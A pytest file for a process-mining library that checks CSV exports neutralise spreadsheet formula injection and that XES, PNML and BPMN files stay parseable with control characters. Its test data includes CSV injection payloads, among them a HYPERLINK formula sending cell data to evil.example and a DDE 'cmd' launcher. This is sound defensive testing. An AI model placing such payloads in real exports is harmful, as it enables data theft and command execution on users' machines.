"""Hostile text in logs: CSV written safe for spreadsheets (OWASP CSV injection) and
round-tripping; every XML file (XES, PNML, BPMN) readable by lxml whatever the text."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from lxml import etree

from taskloom.mining.columns import ACTIVITY, CASE, TIMESTAMP
from taskloom.mining.discovery import discover_net, discover_tree
from taskloom.mining.discovery.bpmn import tree_to_bpmn
from taskloom.mining.io import read_log, write_log
from taskloom.mining.io.bpmn_xml import bpmn_to_xml
from taskloom.mining.io.csv_io import to_safe_csv
from taskloom.mining.io.pnml import net_to_pnml

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    '"\r=2',
    "-2+3",
    "\tTAB",
    "\rCR first",
    "line one\nline two",
    "'=already quoted",
    "''+twice",
    "plain",
]
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def _log(values: list[str]) -> pd.DataFrame:
    n = len(values)
    ts = pd.date_range("2026-01-01", periods=n, freq="min", tz="UTC").astype("datetime64[us, UTC]")
    return pd.DataFrame({CASE: [f"c{i % 3}" for i in range(n)], ACTIVITY: values,
                         TIMESTAMP: ts, "org:resource": values[::-1],
                         "=cmd|' /C calc'!A0": values})


@pytest.mark.parametrize("writer", ["write_csv", "to_safe_csv"])
def test_csv_injection_is_neutralised_and_rows_survive(tmp_path: Path, writer: str) -> None:
    log = _log(HOSTILE)
    out = tmp_path / "log.csv"
    if writer == "write_csv":
        write_log(log, out)
    else:
        to_safe_csv(log, out)
    raw = out.read_bytes().decode("utf-8")
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    assert len(rows) == len(log) + 1 and all(len(r) == len(log.columns) for r in rows)
    assert len(pd.read_csv(io.StringIO(raw))) == len(log)
    for row in rows:  # as a spreadsheet sees the cells: none starts a formula
        assert not [cell for cell in row if cell.startswith(FORMULA)]
    cells = {c for r in rows[1:] for c in r}
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"x")' in cells
    assert "'\"\r=2" not in cells and '"\r=2' in cells  # starts with a quote: no formula
    assert "'''+twice" in cells and "plain" in cells
    assert rows[0][-1] == "'=cmd|' /C calc'!A0"


def test_our_csv_reads_back_exactly(tmp_path: Path) -> None:
    log = _log(HOSTILE)
    out = tmp_path / "log.csv"
    write_log(log, out)
    back = read_log(out)
    pd.testing.assert_frame_equal(back, log)


def test_xes_with_control_characters_parses_with_lxml(tmp_path: Path) -> None:
    titles = ["\x1b[31mred\x1b[0m", "vt\x0bff\x0c", "nul\x00", "lone \ud800 surrogate",
              "nonchar \ufffe\uffff", "tab\tnl\ncr\r ok", "<&\"'>"]
    log = _log([f"a{i}" for i in range(len(titles))])
    log["title"] = pd.Series(titles, dtype=object)  # Python strings: lone surrogates too
    for name in ("log.xes", "log.xes.gz"):
        out = tmp_path / name
        write_log(log, out)
        back = read_log(out)
        with open(out, "rb") as fh:
            data = fh.read()
        if name.endswith(".gz"):
            import gzip

            data = gzip.decompress(data)
        etree.fromstring(data)  # raises XMLSyntaxError on any forbidden character
        assert list(back["title"])[:1] == ["\ufffd[31mred\ufffd[0m"]
        assert set(back["title"]) >= {"vt\ufffdff\ufffd", "nul\ufffd", "lone \ufffd surrogate",
                                      "nonchar \ufffd\ufffd", "tab\tnl\ncr\r ok", "<&\"'>"}


def test_model_files_with_control_characters_parse(tmp_path: Path) -> None:
    acts = ["open\x1b[1m chart", "sign\x0c note", "file\x00"] * 4
    log = _log(acts)
    net = discover_net(log)
    etree.fromstring(net_to_pnml(net).encode())
    bpmn = tree_to_bpmn(discover_tree(log), name="proc\x07ess")
    etree.fromstring(bpmn_to_xml(bpmn).encode())
